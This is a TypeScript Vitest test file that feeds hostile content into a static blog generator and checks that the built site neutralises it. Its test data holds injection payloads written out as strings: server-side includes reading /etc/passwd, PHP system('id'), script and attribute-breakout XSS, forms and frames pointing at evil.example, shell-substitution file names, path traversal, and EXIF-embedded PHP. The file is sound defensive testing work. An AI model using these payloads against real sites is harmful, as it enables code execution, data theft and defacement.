/** Content that is published, and must not do what it is meant to. All of it is in one archive, which is built once. */
import fs from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { xmlTokens } from "../../scripts/attachments/svg-tokens.ts";
import { photograph } from "../attachments/pictures.ts";
import { type Files, thread } from "../support/archive.ts";
import { brokenLinks } from "../support/site.ts";
import { attack, MARKER, type Outcome, pageOf } from "./attack.ts";

const body = (text: string) => ({ "index.md": thread({ title: "x", date: "2016-05-05" }, text) });
const title = (text: string) => ({ "index.md": thread({ title: JSON.stringify(text), date: "2016-05-05" }, "字") });
const named = (...names: string[]) => ({ ...body("字"), ...Object.fromEntries(names.map((name) => [name, "x"])) });
const comment = (html: string) => {
  const comments = [{ id: "1", author: "a", html }];
  const source = { provider: "waline", from: "https://talk.example", kept_at: "2024-06-01", comments };
  return { ...body("字"), "comments.json": JSON.stringify({ sources: [source] }) };
};
const formula = (tex: string) => body(`$${tex}$\n\n$$${tex}$$`);

/** A published attack. */
interface Seen {
  readonly html: string;
  /** Site path of its folder. */
  readonly folder: string;
  readonly site: Outcome["site"];
}

/** What is in a thread of its own, and what must be true of its page or of the site. */
type Attack = readonly [files: Files, holds: (seen: Seen) => void];

const without =
  (...pieces: readonly (string | RegExp)[]) =>
  ({ html }: Seen) => {
    for (const piece of pieces) expect(html).not.toMatch(piece);
  };
const publishes =
  (...names: readonly string[]) =>
  ({ site, folder }: Seen) => {
    for (const name of names) expect([...site.keys()]).toContain(`${folder}/${name}`);
  };
const INSTRUCTIONS = `<!--#exec cmd="touch ${MARKER}" --> <!--#include virtual="/etc/passwd" -->`;
/** No page of the whole site has a piece of text. */
const nowhere =
  (piece: string | RegExp) =>
  ({ site }: Seen) => {
    const pages = [...site].filter(([name]) => /\.(?:html|xml|txt)$|^_/.test(name));
    expect(pages.filter(([, text]) => text.match(piece)).map(([name]) => name)).toEqual([]);
  };

const ATTACKS: Readonly<Record<string, Attack>> = {
  // Programs of servers
  "server-side includes in the text": [body(INSTRUCTIONS), nowhere("<!--#")],
  "server-side includes in the title": [title(INSTRUCTIONS), nowhere("<!--#")],
  "server-side includes in a comment": [comment(INSTRUCTIONS), nowhere("<!--#")],
  "instructions for PHP": [
    body("<?php system('id') ?> <?= 1 ?> <script language=php>x</script>"),
    nowhere(/<\?(?!xml )/),
  ],
  "instructions for PHP in the title": [title("<?php system('id') ?>"), nowhere(/<\?(?!xml )/)],
  "includes at the edge": [body('<esi:include src="https://evil.example/"/>'), without("<esi:")],
  "a program that may be run": [
    { ...body("字"), "run.sh": `#!/bin/sh\ntouch ${MARKER}\n`, "run.cgi": "#!/bin/sh\n" },
    publishes("run.sh", "run_cgi.bin"),
  ],
  // Markup
  "a formula that leads to a script": [formula("\\href{javascript:alert(1)}{x}"), without(/href="javascript/)],
  "a formula with a picture of another host": [
    formula("\\includegraphics{https://evil.example/x.png}"),
    without(/src="https:\/\/evil/),
  ],
  "a formula with a style": [formula("\\style{position:fixed}{x}"), without(/style="/)],
  "a formula with the name of a part of the page": [
    formula("\\htmlId{main}{x} \\htmlClass{a}{y}"),
    without(/ id="main"[^>]*><m/),
  ],
  "a language of code that closes its attribute": [
    body('```js" onmouseover="alert(1)\nx\n```'),
    without(/ onmouseover="/),
  ],
  "headings that scripts could take for their own": [
    body("## __proto__\n\n## constructor\n\n## main"),
    without(/ id="(?:__proto__|constructor|main)"[^>]*>(?:__proto__|constructor|main)/),
  ],
  "a link that takes the place of a floor": [
    body('<a id="floor-2" name="floor-2">x</a>'),
    without(/ (?:id|name)="floor-2"/),
  ],
  "what would take other pages out of a search index": [
    body("<p data-pagefind-body>x</p>"),
    without("data-pagefind-body"),
  ],
  "a link to the settings of the host": [
    body("[x](/_headers) [y](/../../../etc/passwd)"),
    without(/href="[^"]*(?:_headers|passwd)/),
  ],
  "a form in a comment": [
    comment('<form action="https://evil.example/"><input name="p"><button>x</button></form>'),
    without(/<form[^>]*evil/, "<button>x"),
  ],
  "a picture in a comment that counts its readers": [
    comment('<img src="https://evil.example/x.gif">'),
    without(/<img[^>]*src="https:\/\/evil/),
  ],
  "a frame in a comment": [comment('<iframe src="https://evil.example/"></iframe>'), without("<iframe")],
  "a refresh in a comment": [
    comment('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    without("refresh"),
  ],
  "a style in a comment": [comment('<p style="position:fixed;inset:0" class="x">y</p>'), without(/style="/)],
  // Values
  "a title that ends its element": [title("</title><script>alert(1)</script>"), nowhere("<script>")],
  "a title that ends a piece of a feed": [title("]]></title><x/>"), nowhere(/]]><\/title><x\/>/)],
  "a title with the words of a template": [
    title("{{ 7*7 }} {% include 'x' %}"),
    ({ html }) => expect(html).toContain("{{ 7*7 }}"),
  ],
  "a title with another direction": [title("\u202etxt.exe"), ({ html }) => expect(html).toContain("txt.exe")],
  "tags and authors that mean something to JavaScript": [
    {
      "index.md": thread(
        { title: "x", author: "constructor", tags: '["__proto__", "toString", "hasOwnProperty"]' },
        "字",
      ),
    },
    ({ site, html }) => {
      expect(html).toContain("hasOwnProperty");
      expect(
        [...site.keys()].filter((name) => /^(?:tags|authors)\/.*(?:proto|tostring|constructor)/i.test(name)),
      ).not.toEqual([]);
    },
  ],
  "a summary with lines of the host's files": [
    { "index.md": thread({ title: "x", summary: '"/* https://evil.example/ 301\\n/*\\n  X-Taken-Over: 1"' }, "字") },
    ({ site }) => {
      for (const name of ["_headers", "_redirects"]) expect(site.get(name) ?? "").not.toMatch(/taken-over/i);
    },
  ],
  "characters that no feed may hold": [body("a\u0008b\uffffc\ufffed"), without("\u0008", "\uffff", "\ufffe")],
  // Names
  "names with commands of a shell": [
    named(`$(touch ${path.basename(MARKER)}).txt`, "`id`.txt", "a;id;.txt", "a && b.txt", "a'b.txt", "$HOME.txt"),
    publishes("`id`.txt", "a;id;.txt", "a && b.txt", "a'b.txt", "$HOME.txt"),
  ],
  "names that look like options": [named("--help.txt", "-rf.txt"), publishes("--help.txt", "-rf.txt")],
  "names with parts of addresses": [
    named("a%2e%2e%2fb.txt", "a#b.txt", "a&b=c.txt", "%00.txt", "a;b.txt", "a@b.txt"),
    publishes("a%2e%2e%2fb.txt", "a#b.txt", "a&b=c.txt", "%00.txt"),
  ],
  "names of the page itself": [
    named("index.html", "index.html.gz", "index.php", "feed.xml", "sw.js", "_headers"),
    ({ site, folder, html }) => {
      expect(html).toContain("以 Stele 製作");
      expect([...site.keys()].filter((name) => name.startsWith(`${folder}/`) && !name.endsWith(".bin")).sort()).toEqual(
        [`${folder}/index.html`],
      );
    },
  ],
  "settings of a web server and of git": [
    named(".htaccess", ".user.ini", ".gitattributes", ".gitmodules", ".mailmap", "web.config"),
    ({ site, folder }) =>
      expect([...site.keys()].filter((name) => name.startsWith(folder) && /\/\.|web\.config$/.test(name))).toEqual([]),
  ],
  "a picture whose notes are a program": [
    body("![圖](x.jpg)"),
    ({ site }) =>
      expect([...site].filter(([name, bytes]) => name.startsWith("images/") && bytes.includes("<?php"))).toEqual([]),
  ],
};

/** Folders whose names mean something to JavaScript. */
const FOLDERS = ["tea/__proto__/constructor", "tea/2016/toString", "tea/2016/__proto__"];

const entries = Object.entries(ATTACKS);
const folderOf = (at: number) => `tea/2017/p${at}`;
let outcome: Outcome;

beforeAll(async () => {
  const threads = entries.flatMap(([, [files]], at) =>
    Object.entries(files).map(([name, bytes]) => [`${folderOf(at)}/${name}`, bytes] as const),
  );
  const picture = entries.findIndex(([name]) => name.startsWith("a picture whose notes"));
  const exif = { IFD0: { Copyright: "<?php system('id') ?>", ImageDescription: "<script>alert(1)</script>" } };
  const files = {
    ...Object.fromEntries([
      ...threads,
      ...FOLDERS.map((folder) => [`${folder}/index.md`, thread({ title: folder }, "字")]),
    ]),
    [`${folderOf(picture)}/x.jpg`]: await photograph(900, 600).withExif(exif).jpeg().toBuffer(),
  };
  outcome = await attack(files, (content) => {
    const program = entries.findIndex(([name]) => name === "a program that may be run");
    for (const name of ["run.sh", "run.cgi"]) fs.chmodSync(path.join(content, folderOf(program), name), 0o4755);
  });
  expect(outcome.problems).toEqual([]);
});

describe("is published and does nothing:", () => {
  test.each(entries.map(([name, [, holds]], at) => [name, holds, folderOf(at)] as const))("%s", (_, holds, folder) => {
    const html = pageOf(outcome.site, `${folder}/index.md`);
    expect(html).not.toBe("");
    holds({ html, folder, site: outcome.site });
  });

  test.each(FOLDERS)("the folder %s", (folder) => {
    expect(pageOf(outcome.site, `${folder}/index.md`)).toContain(`<h1`);
  });
});

describe("with all of that in it, the site", () => {
  test("has feeds and sitemaps that are XML", () => {
    const files = [...outcome.site].filter(([name]) => name.endsWith(".xml"));
    expect(files.length).toBeGreaterThan(1);
    for (const [, text] of files) {
      const xml = Buffer.from(text, "latin1").toString();
      expect(() => [...xmlTokens(xml.replace(/<\?xml-stylesheet[^>]*\?>/, ""))]).not.toThrow();
    }
  });

  test("has no file that a server may run as a program", () => {
    const files = fs.readdirSync(fs.realpathSync(outcome.out), { recursive: true, encoding: "utf8" });
    const modes = files.map((name) => fs.statSync(path.join(outcome.out, name)));
    expect(modes.filter((stat) => stat.isFile() && (stat.mode & 0o7111) !== 0)).toEqual([]);
  });

  test("has a page or a file behind each of its links", () => {
    expect(brokenLinks(outcome.out)).toEqual([]);
  });
});
